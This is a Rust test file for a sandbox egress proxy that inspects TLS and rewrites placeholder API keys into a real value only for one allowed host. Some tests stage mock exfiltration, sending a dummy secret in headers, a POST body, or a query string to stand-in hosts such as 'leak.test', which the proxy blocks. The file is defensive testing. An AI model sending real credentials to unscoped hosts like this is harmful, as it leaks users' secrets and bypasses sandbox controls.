//! TLS inspection and secret rewriting, end to end with the client trusting the per-run CA.

use std::sync::Arc;

use bytes::Bytes;
use http_body_util::Full;
use iterion_netproxy::{BlockReason, BlockedEvent, Secret, SecretRewriter};
use pretty_assertions::assert_eq;
use rustls::pki_types::CertificateDer;

use super::support::*;

const REAL: &str = "sk-real-secret-value-42";

fn secrets() -> SecretRewriter {
    let mut r = SecretRewriter::new();
    r.add_value_secret("API_KEY", Secret::new(REAL), &["secure.test".into()])
        .unwrap();
    r
}

async fn inspecting(up: &HttpsServer, max_body: Option<usize>) -> Harness {
    start(Options {
        rules: {
            let p = up.addr.port();
            rules(&[
                &format!("secure.test:{p}"),
                &format!("other.test:{p}"),
                &format!("127.0.0.1/32:{p}"),
            ])
        },
        hosts: "secure.test=127.0.0.1,other.test=127.0.0.1",
        secrets: Some(secrets()),
        inspect: true,
        extra_root: Some(up.ca_der.clone()),
        max_body,
        ..Default::default()
    })
    .await
}

fn ca_der(h: &Harness) -> CertificateDer<'static> {
    h.ca.as_ref().unwrap().cert_der().clone()
}

async fn send(
    h: &Harness,
    connect_to: &str,
    req: hyper::Request<Full<Bytes>>,
) -> (u16, hyper::HeaderMap, String) {
    let (head, stream) = connect(h.addr(), connect_to).await;
    assert_eq!(status_of(&head), 200, "{head}");
    let sni = connect_to.split(':').next().unwrap();
    let tls = tls_over(stream, sni, &ca_der(h)).await;
    request_over(tls, req).await
}

fn with_auth(uri: &str, host: &str, auth: &str) -> hyper::Request<Full<Bytes>> {
    hyper::Request::get(uri)
        .header("host", host)
        .header("authorization", auth)
        .body(Full::new(Bytes::new()))
        .unwrap()
}

#[tokio::test]
async fn a_placeholder_reaches_the_scoped_upstream_as_the_real_value_and_comes_back_redacted() {
    let up = HttpsServer::start(&["secure.test", "other.test"]);
    let h = inspecting(&up, None).await;
    assert!(h.proxy.ca_pem().unwrap().contains("BEGIN CERTIFICATE"));
    let t = format!("secure.test:{}", up.addr.port());
    let (status, headers, body) = send(
        &h,
        &t,
        with_auth("/v1/files", &t, "Bearer __ITERION_SECRET_API_KEY__"),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(
        up.seen()[0].header("authorization"),
        Some(format!("Bearer {REAL}").as_str())
    );
    assert_eq!(up.seen()[0].header("accept-encoding"), Some("identity"));
    // The upstream echoed the real value; the sandbox sees the placeholder.
    assert_eq!(
        body,
        "auth=Bearer __ITERION_SECRET_API_KEY__;proto=HTTP/1.1"
    );
    assert_eq!(headers.get("connection").unwrap(), "close");
    assert_eq!(h.events(), vec![]);
}

#[tokio::test]
async fn a_placeholder_toward_an_unscoped_host_stays_opaque() {
    let up = HttpsServer::start(&["secure.test", "other.test"]);
    let h = inspecting(&up, None).await;
    let t = format!("other.test:{}", up.addr.port());
    let (status, _, _) = send(
        &h,
        &t,
        with_auth("/", &t, "Bearer __ITERION_SECRET_API_KEY__"),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(
        up.seen()[0].header("authorization"),
        Some("Bearer __ITERION_SECRET_API_KEY__")
    );
}

#[tokio::test]
async fn the_real_value_toward_another_host_is_refused_and_never_reaches_it() {
    let up = HttpsServer::start(&["secure.test", "other.test"]);
    let h = inspecting(&up, None).await;
    let t = format!("other.test:{}", up.addr.port());
    let (status, headers, body) = send(&h, &t, with_auth("/", &t, &format!("Bearer {REAL}"))).await;
    assert_eq!(
        (status, body.as_str()),
        (403, "blocked by sandbox secret policy")
    );
    assert_eq!(
        headers.get("x-iterion-reason").unwrap(),
        "sandbox secret policy"
    );
    let post = hyper::Request::post("/upload")
        .header("host", &t)
        .body(Full::new(Bytes::from(format!("k={REAL}"))))
        .unwrap();
    let (status, _, _) = send(&h, &t, post).await;
    assert_eq!(status, 403);
    assert_eq!(up.seen(), vec![]);
    assert_eq!(
        h.events(),
        vec![BlockedEvent {
            host: "other.test".into(),
            reason: BlockReason::SecretExfiltration,
            run_id: "run-1".into()
        }]
    );
}

#[tokio::test]
async fn a_host_that_differs_from_the_connect_target_gets_421() {
    let up = HttpsServer::start(&["secure.test", "other.test"]);
    let h = inspecting(&up, None).await;
    let t = format!("other.test:{}", up.addr.port());
    let (status, _, _) = send(&h, &t, get("/", &format!("secure.test:{}", up.addr.port()))).await;
    assert_eq!(status, 421);
    assert_eq!(up.seen(), vec![]);
    assert_eq!(h.events()[0].reason, BlockReason::HostMismatch);
}

#[tokio::test]
async fn a_body_over_the_bound_gets_413_and_a_non_websocket_upgrade_gets_403() {
    let up = HttpsServer::start(&["secure.test"]);
    let h = inspecting(&up, Some(1024)).await;
    let t = format!("secure.test:{}", up.addr.port());
    let post = hyper::Request::post("/big")
        .header("host", &t)
        .body(Full::new(Bytes::from(vec![b'x'; 2048])))
        .unwrap();
    let (status, _, _) = send(&h, &t, post).await;
    assert_eq!(status, 413);
    let up_req = hyper::Request::get("/ws")
        .header("host", &t)
        .header("upgrade", "h2c")
        .header("connection", "upgrade")
        .body(Full::new(Bytes::new()))
        .unwrap();
    let (status, _, _) = send(&h, &t, up_req).await;
    assert_eq!(status, 403);
    let reasons: Vec<BlockReason> = h.events().into_iter().map(|e| e.reason).collect();
    assert_eq!(
        reasons,
        vec![BlockReason::BodyOverBound, BlockReason::UpgradeRefused]
    );
    assert_eq!(up.seen(), vec![]);
}

#[tokio::test]
async fn a_head_over_the_inspection_bound_gets_431() {
    let up = HttpsServer::start(&["secure.test"]);
    let h = inspecting(&up, None).await;
    let t = format!("secure.test:{}", up.addr.port());
    let big = "a".repeat(iterion_netproxy::MAX_INSPECTED_HEAD_BYTES);
    let req = hyper::Request::get("/")
        .header("host", &t)
        .header("x-big", big)
        .body(Full::new(Bytes::new()))
        .unwrap();
    let (status, _, _) = send(&h, &t, req).await;
    assert_eq!(status, 431);
    assert_eq!(h.events()[0].reason, BlockReason::HeaderOverBound);
}

#[tokio::test]
async fn plain_http_is_scanned_and_rewritten_under_inspection() {
    let up = http_upstream().await;
    let mut rw = SecretRewriter::new();
    rw.add_value_secret("API_KEY", Secret::new(REAL), &["plain.test".into()])
        .unwrap();
    let p = up.addr.port();
    let h = start(Options {
        rules: rules(&[
            &format!("plain.test:{p}"),
            &format!("leak.test:{p}"),
            &format!("127.0.0.1/32:{p}"),
        ]),
        hosts: "plain.test=127.0.0.1,leak.test=127.0.0.1",
        secrets: Some(rw),
        inspect: true,
        ..Default::default()
    })
    .await;
    let _ = Arc::clone(h.ca.as_ref().unwrap());
    let port = up.addr.port();
    let (head, _) = send_head(h.addr(), &format!("GET http://plain.test:{port}/ HTTP/1.1\r\nHost: plain.test:{port}\r\nAuthorization: Bearer __ITERION_SECRET_API_KEY__\r\nProxy-Authorization: Bearer {TOKEN}\r\n\r\n")).await;
    assert_eq!(status_of(&head), 200);
    assert_eq!(
        up.seen()[0].header("authorization"),
        Some(format!("Bearer {REAL}").as_str())
    );
    let (head, _) = send_head(h.addr(), &format!("GET http://leak.test:{port}/?k={REAL} HTTP/1.1\r\nHost: leak.test:{port}\r\nProxy-Authorization: Bearer {TOKEN}\r\n\r\n")).await;
    assert_eq!(status_of(&head), 403);
    assert_eq!(up.seen().len(), 1);
}
